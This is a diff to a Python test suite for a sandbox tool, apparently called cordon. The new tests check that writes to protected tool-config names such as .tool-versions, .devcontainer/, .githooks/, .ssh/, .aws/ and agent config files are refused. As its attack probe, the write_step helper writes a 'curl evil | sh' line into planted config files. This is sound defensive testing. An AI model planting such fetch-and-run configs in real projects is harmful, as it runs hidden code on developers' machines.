@@ -267,6 +267,24 @@ def test_policy_shows_and_checks_the_list(cordon):
         assert_cordon_refused(cordon.raw("policy", "check", bad), *words)
     r = cordon.raw("check")
     assert r.status == 0 and ".mcp.json" in r.out and "unsafe_unprotect" in r.out, r
+    assert "cordon check --protected" in r.out, r
+
+
+def test_check_says_why_each_name_is_protected(cordon):
+    r = cordon.raw("check", "--protected")
+    assert r.status == 0, r
+    lines = r.out.splitlines()
+    for name in TOOL_NAMES + [".git/", ".envrc", ".mcp.json"]:
+        at = [i for i, l in enumerate(lines) if l.startswith(f"  {name}  (")]
+        assert len(at) == 1, (name, r.out)
+        assert len(lines[at[0] + 1].strip()) > 10, (name, lines[at[0] + 1])  # the reason
+    tail = r.out.split("considered and not protected:")[1]
+    assert "AGENTS.md" in tail and ".github/workflows" in tail and "Makefile" in tail, r.out
+    table = json.loads(cordon.raw("check", "--json").out)["protected"]
+    rows = {row["name"]: row for row in table["defaults"]}
+    assert rows[".devcontainer"]["directory"] and not rows[".tool-versions"]["directory"], rows
+    assert "initializeCommand" in rows[".devcontainer"]["why"], rows[".devcontainer"]
+    assert all(row["why"] and row["read_by"] for row in table["defaults"]), table
 
 
 def test_placeholders_do_not_survive_a_killed_cordon(cordon):
@@ -282,6 +300,47 @@ def test_placeholders_do_not_survive_a_killed_cordon(cordon):
         if p.poll() is None:
             os.killpg(p.pid, signal.SIGKILL)
             p.wait()
+
+
+# The names issue 22 added to the default list (`cordon check --protected`
+# says who reads each and why); a trailing '/' marks a directory.
+TOOL_NAMES = [
+    ".tool-versions", "mise.toml", "mise.local.toml", ".mise.toml", ".mise.local.toml", ".mise/",
+    "mise/", ".nvmrc", ".node-version", ".python-version", ".ruby-version", ".sdkmanrc",
+    ".devcontainer/", ".devcontainer.json", ".githooks/", "lefthook.yml", ".lefthook.yml",
+    "lefthook-local.yml", ".lefthook-local.yml", ".lefthook/", ".config/", ".ssh/", ".aws/",
+    ".kube/", ".pdbrc", ".irbrc", ".pryrc", ".aider.conf.yml", ".continue/", ".continuerc.json",
+]
+
+
+def write_step(name, where=""):
+    """A shell step that makes NAME (under WHERE) as a tool would find it."""
+    path = where + name.rstrip("/")
+    if name.endswith("/"):
+        return f"mkdir -p {path} && echo 'run: curl evil | sh' > {path}/config"
+    return f"echo 'python path:/workspace/evil' > {path}"
+
+
+def test_tool_config_names_cannot_be_written(cordon):
+    """Each name version managers, dev containers and agent CLIs act on, made by
+    a -w run: refused inside (a read-only placeholder), nothing on the host."""
+    ws = cordon.hostdir("ws")
+    steps = [write_step(n) for n in TOOL_NAMES]
+    codes, r = attempts(cordon, ws, steps)
+    for name, step in zip(TOOL_NAMES, steps):
+        assert codes[step] != 0, f"{name}: {step!r} succeeded\n{r}"
+    assert entries(ws) == [], entries(ws)
+    assert r.result["workspace"]["placeholders"] >= len(TOOL_NAMES), r.result
+    # One that exists is read-only, and is left as it was.
+    for name in (".tool-versions", ".nvmrc"):
+        (ws / name).write_text("nodejs 20.0.0\n")
+        os.chown(ws / name, cordon.ident.uid, cordon.ident.gid)
+    steps = ["echo 'nodejs path:/tmp' > .tool-versions", "rm .nvmrc", "cat .tool-versions .nvmrc"]
+    codes, r = attempts(cordon, ws, steps)
+    assert [codes[s] != 0 for s in steps] == [True, True, False], r
+    assert (ws / ".tool-versions").read_text() == "nodejs 20.0.0\n"
+    assert (ws / ".nvmrc").read_text() == "nodejs 20.0.0\n"
+    assert entries(ws) == [".nvmrc", ".tool-versions"], entries(ws)
 
 
 # --- metadata: modes, owners, times, xattrs, inode flags --------------------------
